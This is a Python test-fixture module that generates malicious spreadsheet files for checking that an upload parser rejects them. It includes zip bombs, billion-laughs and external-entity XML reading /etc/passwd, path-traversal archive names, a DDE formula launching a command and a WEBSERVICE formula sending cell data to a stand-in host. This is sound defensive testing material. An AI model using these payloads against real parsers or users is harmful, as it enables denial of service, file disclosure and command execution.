"""Files made to harm whoever opens them, each trap a function of its own.

`TRAPS` tells what must become of each: the code of the problem it is refused with, or `READ`
where it is harmless and its one answer counts. Nobody but tests should open what is made here.
"""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from assess.workbook_format import QUESTIONS_SHEET
from tests import binary_workbooks as binary
from tests.mistreated import (
    cell_of,
    fill,
    issued,
    repacked,
    returned,
    saved,
    with_questions_xml,
)

READ = "read"
GOOD = returned({"trial.mfa": "Yes"})
_SHEET = "xl/worksheets/sheet2.xml"
_END = rb"</sheetData>"

TRAPS: dict[str, tuple[Callable[[], bytes], str]] = {}
"""What makes a trap, and what it must come to, by its name."""


def trap(outcome: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register a trap with what it must come to."""

    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        TRAPS[make.__name__] = (make, outcome)
        return make

    return register


def with_part(name: str, content: bytes) -> bytes:
    """Return the good workbook with a part changed, or added."""
    with zipfile.ZipFile(BytesIO(GOOD)) as archive:
        known = name in archive.namelist()
    if known:
        return repacked(GOOD, lambda each, old: content if each == name else old)
    return repacked(GOOD, extra=[(name, content)])


def with_cells(cells: bytes) -> bytes:
    """Return the good workbook with further rows at the end of its questions."""
    return with_questions_xml(GOOD, _END, cells.replace(b"\\", rb"\\") + _END)


def zipped(parts: dict[str, bytes]) -> bytes:
    """Return a zip."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def ods(content: str) -> bytes:
    """Return an OpenDocument spreadsheet of one sheet's rows."""
    names = "".join(
        f' xmlns:{each}="urn:oasis:names:tc:opendocument:xmlns:{each}:1.0"'
        for each in ("office", "table", "text")
    )
    body = (
        f"<office:document-content{names}><office:body><office:spreadsheet>"
        f'<table:table table:name="Questions">{content}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": mimetype, "content.xml": body.encode()})


# --- the zip --------------------------------------------------------------------------------


@trap("file.too-large")
def zip_bomb_by_ratio() -> bytes:
    return with_part("xl/media/image1.png", b"\0" * 20_000_000)


@trap("file.too-large")
def zip_bomb_in_a_part_that_is_read() -> bytes:
    return with_cells(b'<row r="900"><c r="A900"><v>1</v></c></row>' * 1_000_000)


@trap("file.too-large")
def zip_bomb_by_count() -> bytes:
    return repacked(GOOD, extra=[(f"xl/media/{number}.png", b"") for number in range(2_000)])


@trap("file.too-large")
def zip_bomb_by_the_sum_of_its_parts() -> bytes:
    part = b"\0" * 4_900_000
    return repacked(GOOD, extra=[(f"xl/media/{number}.png", part) for number in range(31)])


@trap("file.not-excel")
def zip_in_a_zip() -> bytes:
    inner = zipped({"0": b"\0" * 1_000_000})
    for _ in range(3):
        inner = zipped({str(number): inner for number in range(10)})
    return inner


@trap(READ)
def zip_embedded_in_a_workbook() -> bytes:
    return with_part("xl/embeddings/oleObject1.bin", zip_in_a_zip())


def lying(data: bytes, part: str, size: int) -> bytes:
    """Return a zip whose directory states another size for a part."""
    changed = bytearray(data)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        local = archive.getinfo(part).header_offset
        central = archive.start_dir
    struct.pack_into("<I", changed, local + 22, size)
    while changed[central : central + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack_from("<3H", changed, central + 28)
        if changed[central + 46 : central + 46 + name] == part.encode():
            struct.pack_into("<I", changed, central + 24, size)
        central += 46 + name + extra + comment
    return bytes(changed)


@trap("file.unreadable")
def a_directory_that_lies_about_a_sheet() -> bytes:
    return lying(with_cells(b"<row/>" * 3_000_000), _SHEET, 1_000)


@trap("file.too-large")
def a_directory_that_lies_about_styles_which_only_the_library_reads() -> bytes:
    styles = b"<styleSheet>" + b"<xf/>" * 10_000_000 + b"</styleSheet>"
    return lying(with_part("xl/styles.xml", styles), "xl/styles.xml", 1_000)


@trap("file.too-large")
def a_directory_that_lies_about_shared_texts() -> bytes:
    texts = b"<sst>" + b"<si><t>x</t></si>" * 1_000_000 + b"</sst>"
    return lying(with_part("xl/sharedStrings.xml", texts), "xl/sharedStrings.xml", 100)


@trap(READ)
def parts_whose_names_lead_out_of_the_archive() -> bytes:
    names = ("../../escaped.txt", "/escaped.txt", "C:\\escaped.txt", "..\\escaped.txt", "a\0b")
    return repacked(GOOD, extra=[(name, b"out") for name in names])


@trap("file.unreadable")
def a_part_that_stands_twice_in_letters_of_another_case() -> bytes:
    return repacked(GOOD, extra=[("XL/Workbook.XML", b"<workbook/>")])


@trap("file.password")
def an_encrypted_part() -> bytes:
    changed = bytearray(GOOD)
    with zipfile.ZipFile(BytesIO(GOOD)) as archive:
        start = archive.start_dir
    changed[start + 8] |= 1
    return bytes(changed)


@trap("file.unreadable")
def parts_packed_by_another_method() -> bytes:
    buffer = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(GOOD)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as new,
    ):
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return buffer.getvalue()


@trap(READ)
def another_workbook_in_front() -> bytes:
    """Readers that look for the zip's directory from the front see the other one."""
    return returned({"trial.mfa": "No"}) + GOOD


@trap(READ)
def another_workbook_in_the_comment_at_the_end() -> bytes:
    """Readers that trust the length of the comment, or do not, see one of the two."""
    other = zipped({"xl/workbook.xml": b"<workbook/>"})[:60_000]
    at = GOOD.rindex(b"PK\x05\x06")
    return GOOD[: at + 20] + struct.pack("<H", len(other) - 22) + other[:-22]


@trap("file.truncated")
def a_zip_that_begins_and_does_not_end() -> bytes:
    return b"PK\x03\x04" + random.Random(1).randbytes(5_000)


@trap("file.not-excel")
def a_pdf_with_a_workbook_behind_it() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + GOOD


@trap("file.not-excel")
def a_program_with_a_workbook_behind_it() -> bytes:
    return b"MZ" + b"\0" * 100 + GOOD


@trap(READ)
def a_workbook_that_is_an_ods_as_well() -> bytes:
    """What has Excel's parts is read as Excel does, whatever else is in it."""
    with zipfile.ZipFile(BytesIO(ods(""))) as other:
        extra = [(name, other.read(name)) for name in other.namelist()]
    return repacked(GOOD, extra=extra)


@trap("file.unreadable")
def a_workbook_without_relations() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(GOOD)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            if not name.endswith(".rels"):
                new.writestr(name, old.read(name))
    return buffer.getvalue()


@trap("file.unreadable")
def relations_that_lead_elsewhere() -> bytes:
    relations = (
        b'<Relationships><Relationship Id="rId1" Target="../../../etc/passwd" Type="x/worksheet"/>'
        b'<Relationship Id="rId2" Target="http://example.org/s.xml" Type="x/worksheet" '
        b'TargetMode="External"/><Relationship Id="rId3" Target="workbook.xml"/></Relationships>'
    )
    return with_part("xl/_rels/workbook.xml.rels", relations)


@trap("file.unreadable")
def comments_that_are_the_sheet_itself() -> bytes:
    relations = (
        b'<Relationships><Relationship Id="rId1" Target="/xl/worksheets/nowhere.xml" '
        b'Type="x/comments"/></Relationships>'
    )
    return with_part("xl/worksheets/_rels/sheet2.xml.rels", relations)


# --- XML ------------------------------------------------------------------------------------

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (each, b"&lol%s;" % (b"%d" % (each - 1) if each > 1 else b"") * 10)
        for each in range(1, 10)
    )
    + b"]>"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>'


@trap("file.unreadable")
def laughs_in_the_workbook() -> bytes:
    return with_part("xl/workbook.xml", LAUGHS + b"<workbook>&lol9;</workbook>")


@trap("file.unreadable")
def laughs_in_a_sheet() -> bytes:
    sheet = b'<worksheet><sheetData><row><c t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return with_part(_SHEET, LAUGHS + sheet + b"</sheetData></worksheet>")


@trap("file.unreadable")
def laughs_in_shared_texts() -> bytes:
    return with_part("xl/sharedStrings.xml", LAUGHS + b"<sst><si><t>&lol9;</t></si></sst>")


@trap("file.unreadable")
def laughs_in_the_content_of_an_ods() -> bytes:
    content = b'<a xmlns:text="t"><text:p>&lol9;</text:p></a>'
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": mimetype, "content.xml": LAUGHS + content})


@trap("file.unreadable")
def an_entity_from_outside_in_relations() -> bytes:
    return with_part(
        "xl/_rels/workbook.xml.rels", OUTSIDE + b"<Relationships>&out;</Relationships>"
    )


@trap("file.unreadable")
def a_document_type_in_letters_of_two_bytes() -> bytes:
    xml = '<?xml version="1.0" encoding="utf-16"?>' + (LAUGHS + b"<workbook/>").decode()[21:]
    return with_part("xl/workbook.xml", xml.encode("utf-16"))


@trap("file.unreadable")
def an_entity_repeated_a_million_times() -> bytes:
    bomb = b'<!DOCTYPE x [<!ENTITY a "%s">]><workbook>%s</workbook>' % (
        b"a" * 50_000,
        b"&a;" * 50_000,
    )
    return with_part("xl/workbook.xml", bomb)


@trap("file.too-large")
def elements_nested_a_million_deep_in_the_workbook() -> bytes:
    return with_part("xl/workbook.xml", _noisy(b"<workbook>" + b"<a>" * 1_000_000))


@trap("file.too-large")
def elements_nested_a_million_deep_in_an_ods() -> bytes:
    return ods("<table:table-row>" + "<table:table-cell>" * 200_000)


@trap("file.unreadable")
def elements_nested_a_million_deep_in_a_cell() -> bytes:
    return with_cells(b'<row r="900"><c r="A900">' + b"<a>" * 1_000_000)


def _noisy(xml: bytes) -> bytes:
    """Return XML with something behind that does not pack well, so that it is no zip bomb."""
    return xml + b"<!-- " + random.Random(2).randbytes(60_000).hex().encode() + b" -->"


# --- sheets ---------------------------------------------------------------------------------


@trap("file.too-large")
def a_value_in_the_last_row() -> bytes:
    return with_cells(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>')


@trap("file.too-large")
def a_value_in_the_last_column() -> bytes:
    return with_cells(b'<row r="900"><c r="XFD900"><v>1</v></c></row>')


@trap("file.too-large")
def values_that_span_too_much_though_each_is_near() -> bytes:
    return with_cells(b'<row r="9998"><c r="A9998"><v>1</v></c><c r="ZZ9998"><v>1</v></c></row>')


@trap("file.too-large")
def a_million_cells_without_names_in_a_row() -> bytes:
    return with_cells(b"<row>" + b"<c><v>1</v></c>" * 300_000 + b"</row>")


@trap("file.too-large")
def a_far_value_under_a_prefix() -> bytes:
    return with_cells(b'<row><x:c r="XFD1048576"><x:v>1</x:v></x:c></row>')


@trap("file.too-large")
def a_far_value_between_odd_quotes() -> bytes:
    return with_cells(b"<row><c\tr = 'XFD1048576'\n><v>1</v></c></row>")


@trap("file.unreadable")
def a_cell_named_beyond_all_columns() -> bytes:
    return with_cells(b'<row><c r="AAAAAAAAAAAAAAAA1"><v>1</v></c></row>')


@trap(READ)
def a_dimension_that_lies() -> bytes:
    return with_questions_xml(
        GOOD, rb"<dimension ref=\"[^\"]*\"", b'<dimension ref="A1:XFD1048576"'
    )


@trap(READ)
def formats_up_to_the_last_cell() -> bytes:
    return with_cells(b'<row r="1048576"><c r="XFD1048576" s="0"/></row>')


@trap("file.too-large")
def one_long_text_in_very_many_cells() -> bytes:
    texts = b"<sst><si><t>" + random.Random(3).randbytes(16_000).hex().encode() + b"</t></si></sst>"
    cells = b"".join(
        b'<c r="%c%d" t="s"><v>0</v></c>' % (65 + n % 20, 100 + n // 20) for n in range(9_000)
    )
    sheet = with_cells(b"<row>" + cells + b"</row>")
    return repacked(sheet, extra=[("xl/sharedStrings.xml", texts)])


@trap("file.too-large")
def shared_texts_without_number() -> bytes:
    return with_part("xl/sharedStrings.xml", b"<sst>" + b"<si><t/></si>" * 500_001 + b"</sst>")


@trap("file.too-large")
def one_shared_text_of_a_gigabyte() -> bytes:
    """As a zip of one megabyte, which the packer writes piece by piece."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"<sst><si><t>")
    for _ in range(1_000):
        packed += packer.compress(b"a" * 1_000_000)
    packed += packer.flush()
    return _with_packed(packed, 1_000_000_012)


def _with_packed(packed: bytes, size: int) -> bytes:
    """Return a workbook whose shared texts are packed bytes of a size that is only claimed."""
    data = repacked(GOOD, extra=[("xl/sharedStrings.xml", b"")])
    with zipfile.ZipFile(BytesIO(data)) as archive:
        entry, central = archive.getinfo("xl/sharedStrings.xml"), archive.start_dir
    start = entry.header_offset
    name = struct.unpack_from("<H", data, start + 26)[0]
    local = bytearray(data[start : start + 30 + name])
    struct.pack_into("<2I", local, 18, len(packed), size)
    struct.pack_into("<H", local, 8, zipfile.ZIP_DEFLATED)
    directory = bytearray(data[central:])
    at = directory.index(b"xl/sharedStrings.xml") - 46
    struct.pack_into("<H", directory, at + 10, zipfile.ZIP_DEFLATED)
    struct.pack_into("<2I", directory, at + 20, len(packed), size)
    front = data[:start] + bytes(local) + packed
    struct.pack_into("<I", directory, len(directory) - 6, len(front))
    return front + bytes(directory)


@trap("file.unreadable")
def shared_texts_that_are_no_whole_xml() -> bytes:
    """The library passes over the damage, and the cells that use the text are blank."""
    return with_part("xl/sharedStrings.xml", b"<sst><si><\0\0Yes</t></si></sst>")


@trap("file.too-large")
def shared_texts_nested_a_million_deep() -> bytes:
    return with_part("xl/sharedStrings.xml", b"<sst>" + b"<a>" * 300_000 + b"</a>" * 300_000)


@trap("file.too-large")
def shared_texts_whose_count_lies() -> bytes:
    """The library takes the memory first, and the operating system ends the program."""
    count = b'<sst count="4294967295" uniqueCount="4294967295"><si><t>x</t></si></sst>'
    return with_part("xl/sharedStrings.xml", count)


@trap(READ)
def cyclic_formulas_beside_the_form() -> bytes:
    cells = b'<c r="J900"><f>K900</f><v>1</v></c><c r="K900"><f>J900</f><v>1</v></c>'
    return with_cells(b'<row r="900">' + cells + b"</row>")


@trap("answer.formula-without-value")
def a_cyclic_formula_as_an_answer() -> bytes:
    book = fill(issued(), {"trial.gate": "Yes"})
    sheet = book[QUESTIONS_SHEET]
    cell = cell_of(sheet, "trial.mfa")
    sheet[cell] = f"={cell}"
    return saved(book)


@trap("answer.formula-without-value")
def a_formula_that_would_run_a_program() -> bytes:
    book = issued()
    sheet = book[QUESTIONS_SHEET]
    sheet[cell_of(sheet, "trial.mfa")] = "=cmd|' /C calc'!A0"
    return saved(book)


@trap("answer.formula-without-value")
def a_formula_that_would_fetch_a_page() -> bytes:
    book = issued()
    sheet = book[QUESTIONS_SHEET]
    sheet[cell_of(sheet, "trial.mfa")] = '=WEBSERVICE("http://example.org/"&A1)'
    return saved(book)


@trap("file.too-large")
def merges_without_number() -> bytes:
    merges = b"".join(b'<mergeCell ref="J%d:K%d"/>' % (n, n) for n in range(1, 20_100))
    return with_questions_xml(GOOD, _END, _END + b"<mergeCells>" + merges + b"</mergeCells>")


@trap("file.too-large")
def comments_without_number() -> bytes:
    notes = b"".join(
        b'<comment ref="J%d" authorId="0"><text><t>x</t></text></comment>' % n
        for n in range(1, 10_100)
    )
    relations = (
        b'<Relationships><Relationship Id="rId1" Target="/xl/comments1.xml" Type="x/comments"/>'
        b"</Relationships>"
    )
    data = with_part("xl/comments1.xml", b"<comments>" + notes + b"</comments>")
    return repacked(data, extra=[("xl/worksheets/_rels/sheet2.xml.rels", relations)])


@trap("answer.ambiguous-percent")
def styles_without_number_behind_a_percentage() -> bytes:
    data = returned({"trial.laptops": 0.5})
    more = b"<xf/>" * 900_000 + b"</cellXfs>"
    return repacked(
        data, lambda name, old: old.replace(b"</cellXfs>", more) if "styles" in name else old
    )


@trap("file.too-large")
def sheets_without_number() -> bytes:
    book = issued()
    for number in range(60):
        book.create_sheet(f"S{number}")
    return saved(book)


@trap("file.too-large")
def a_sheet_with_a_name_of_ten_thousand_letters() -> bytes:
    return repacked(GOOD, lambda _, old: old.replace(b'"Instructions"', b'"%s"' % (b"n" * 10_000)))


@trap("file.unreadable")
def two_sheets_of_one_name() -> bytes:
    return repacked(GOOD, lambda _, old: old.replace(b'"Instructions"', b'"Questions"'))


@trap("file.too-large")
def one_large_sheet_under_many_names() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="AZ%d"><v>1</v></c></row>' % (n, n) for n in range(1, 9_000))
    sheet = b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>"
    sheets = b"".join(
        b'<sheet name="S%d" sheetId="%d" r:id="rIdX"/>' % (n, 50 + n) for n in range(9)
    )
    relation = b'<Relationship Id="rIdX" Type="x/worksheet" Target="worksheets/big.xml"/>'

    def change(name: str, old: bytes) -> bytes:
        old = old.replace(b"</sheets>", sheets + b"</sheets>")
        if name == "xl/_rels/workbook.xml.rels":
            old = old.replace(b"</Relationships>", relation + b"</Relationships>")
        return old

    return repacked(GOOD, change, [("xl/worksheets/big.xml", sheet)])


def with_value(value: bytes, kind: bytes = b"") -> bytes:
    """Return a workbook whose answer to trial.admins, a number, is raw XML."""
    data = returned({"trial.admins": 3, "trial.mfa": "Yes"})
    cell = cell_of(issued()[QUESTIONS_SHEET], "trial.admins").encode()
    return with_questions_xml(
        data, rb'<c r="%s"[^>]*>.*?</c>' % cell, b'<c r="%s"%s><v>%s</v></c>' % (cell, kind, value)
    )


@trap("answer.not-a-number")
def a_number_beyond_all_numbers() -> bytes:
    return with_value(b"1e400")


@trap("answer.not-a-number")
def a_number_that_is_none() -> bytes:
    return with_value(b"NaN")


@trap("answer.not-a-number")
def a_number_with_an_exponent_of_ten_digits() -> bytes:
    return with_value(b"1e9999999999", b' t="str"')


@trap("file.unreadable")
def half_a_surrogate_in_a_text() -> bytes:
    return with_value(b"&#xD800;", b' t="str"')


@trap("answer.not-a-number")
def control_characters_in_a_text() -> bytes:
    return with_value(b"\x01\x02_x0000_\x1b[31mred", b' t="str"')


# --- what belongs to others -----------------------------------------------------------------


@trap(READ)
def a_link_to_another_workbook() -> bytes:
    link = (
        b'<externalLink xmlns:r="r"><externalBook r:id="rId1"/></externalLink>'
        b'<!-- Target="http://example.org/book.xlsx" -->'
    )
    return with_part("xl/externalLinks/externalLink1.xml", link)


@trap(READ)
def a_connection_to_a_database() -> bytes:
    return with_part(
        "xl/connections.xml", b'<connections><connection refreshOnLoad="1"/></connections>'
    )


@trap(READ)
def an_embedded_object_and_a_control() -> bytes:
    data = with_part("xl/embeddings/oleObject1.bin", b"MZ\x90\0")
    return repacked(data, extra=[("xl/activeX/activeX1.bin", b"MZ\x90\0")])


@trap(READ)
def a_macro() -> bytes:
    return with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1AutoOpen")


# --- .xls -----------------------------------------------------------------------------------


def _old(stream: bytes) -> bytes:
    return binary.compound({"Workbook": stream.ljust(binary.CUTOFF, b"\0")})


def _patched(data: bytes, at: int, number: int) -> bytes:
    return data[:at] + struct.pack("<I", number) + data[at + 4 :]


@trap("file.unreadable")
def an_xls_whose_sectors_run_in_a_circle() -> bytes:
    data = _old(binary.xls_stream({"Q": binary.text_cell(0, 0, "a")}))
    return _patched(data, 512 + 4 * 3, 2)


@trap("file.unreadable")
def an_xls_whose_directory_runs_in_a_circle() -> bytes:
    data = _old(binary.xls_stream({"Q": binary.text_cell(0, 0, "a")}))
    return _patched(data, 512 + 4 * 1, 1)


@trap("file.truncated")
def an_xls_whose_stream_is_longer_than_the_file() -> bytes:
    data = _old(binary.xls_stream({"Q": binary.text_cell(0, 0, "a")}))
    return _patched(data, data.index("Workbook".encode("utf-16-le")) + 120, 0x7FFFFFFF)


@trap("file.too-large")
def an_xls_with_four_thousand_million_shared_texts() -> bytes:
    before = binary.record(0xFC, struct.pack("<2I", 0xFFFFFFFF, 0xFFFFFFFF))
    return binary.xls({"Q": binary.text_cell(0, 0, "a")}, before)


@trap("file.foreign")
def an_xls_whose_dimensions_lie() -> bytes:
    lie = binary.record(0x200, struct.pack("<2I3H", 0, 0xFFFFFFFF, 0, 0xFFFF, 0))
    return binary.xls({"Q": lie + binary.text_cell(0, 0, "a")})


@trap("file.too-large")
def an_xls_with_a_value_in_the_last_row() -> bytes:
    return binary.xls({"Q": binary.text_cell(65_535, 255, "a")})


@trap("file.too-large")
def an_xls_with_one_long_text_in_very_many_cells() -> bytes:
    text = binary.text8("a" * 8_000)
    cells = b"".join(
        binary.record(0xFD, binary.place(n // 50, n % 50) + b"\0" * 4) for n in range(3_000)
    )
    return binary.xls({"Q": cells}, binary.record(0xFC, struct.pack("<2I", 1, 1) + text))


@trap("file.truncated")
def an_xls_whose_sheet_starts_behind_its_end() -> bytes:
    stream = binary.xls_stream({"Q": b""})
    at = stream.index(binary.record(0x0A)) - 4 - len(binary.text8("Q", "B")) - 2
    return _old(stream[:at] + struct.pack("<I", 0x7FFFFFFF) + stream[at + 4 :])


@trap("file.truncated")
def an_xls_whose_text_is_longer_than_its_record() -> bytes:
    return binary.xls(
        {"Q": binary.record(0x204, binary.place(0, 0) + struct.pack("<HB", 60_000, 0))}
    )


@trap("file.not-excel")
def an_old_file_whose_only_workbook_is_an_embedded_one() -> bytes:
    return binary.compound({"WordDocument": b"\0" * 5_000}, ["ObjectPool"])


# --- .xlsb ----------------------------------------------------------------------------------


@trap("file.too-large")
def an_xlsb_with_a_value_in_the_last_row() -> bytes:
    return binary.xlsb({"Q": binary.row12(1_048_575) + binary.cell12(6, 0, binary.text12("a"))})


@trap("file.truncated")
def an_xlsb_whose_text_is_longer_than_its_record() -> bytes:
    return binary.xlsb({"Q": binary.row12(0) + binary.cell12(6, 0, struct.pack("<I", 0x7FFFFFFF))})


@trap("file.truncated")
def an_xlsb_whose_record_is_longer_than_its_part() -> bytes:
    return binary.xlsb({"Q": binary.row12(0) + b"\x06\xff\xff\xff\x7f"})


@trap("file.unreadable")
def an_xlsb_with_cells_that_do_not_say_their_column() -> bytes:
    return binary.xlsb({"Q": binary.row12(0) + binary.record12(18, b"\0" * 8)})


# --- .ods -----------------------------------------------------------------------------------

_YES = '<table:table-cell {} office:value-type="string"><text:p>{}</text:p></table:table-cell>'


@trap("file.too-large")
def an_ods_cell_repeated_over_the_whole_sheet() -> bytes:
    cell = _YES.format('table:number-columns-repeated="16384"', "x")
    return ods(f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>')


@trap("file.too-large")
def an_ods_row_repeated_to_the_end() -> bytes:
    row = f'<table:table-row table:number-rows-repeated="1048576">{_YES.format("", "x")}'
    return ods(f"{row}</table:table-row>")


@trap("file.too-large")
def an_ods_long_text_repeated() -> bytes:
    cell = _YES.format('table:number-columns-repeated="600"', "x" * 30_000)
    return ods(f'<table:table-row table:number-rows-repeated="9000">{cell}</table:table-row>')


@trap("file.foreign")
def an_ods_with_spaces_without_number() -> bytes:
    spaces = '<text:s text:c="999999999"/>' * 1_000
    return ods(f"<table:table-row>{_YES.format('', 'x' + spaces)}</table:table-row>")


# --- text -----------------------------------------------------------------------------------


@trap("file.too-large")
def a_table_of_a_million_rows() -> bytes:
    return b"ID,Answer\n" + b"a,b\n" * 1_000_000


@trap("file.too-large")
def a_table_of_twenty_thousand_columns() -> bytes:
    return b"ID,Answer\n" + b",".join([b"x"] * 20_000)


@trap("file.unreadable")
def a_table_with_a_cell_of_ten_megabytes() -> bytes:
    return b"ID,Answer\na," + b"x" * 10_000_000 + b"\n"


@trap("file.unreadable")
def a_table_of_quotation_marks() -> bytes:
    return b"ID,Answer\n" + b'"' * 5_000_001


@trap("file.too-large")
def a_file_beyond_the_largest() -> bytes:
    return b"PK\x03\x04" + b"\0" * 25_000_000


@trap("file.not-excel")
def random_bytes() -> bytes:
    return random.Random(4).randbytes(100_000)


@trap("file.unreadable")
def random_bytes_that_begin_like_an_xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(5).randbytes(100_000)
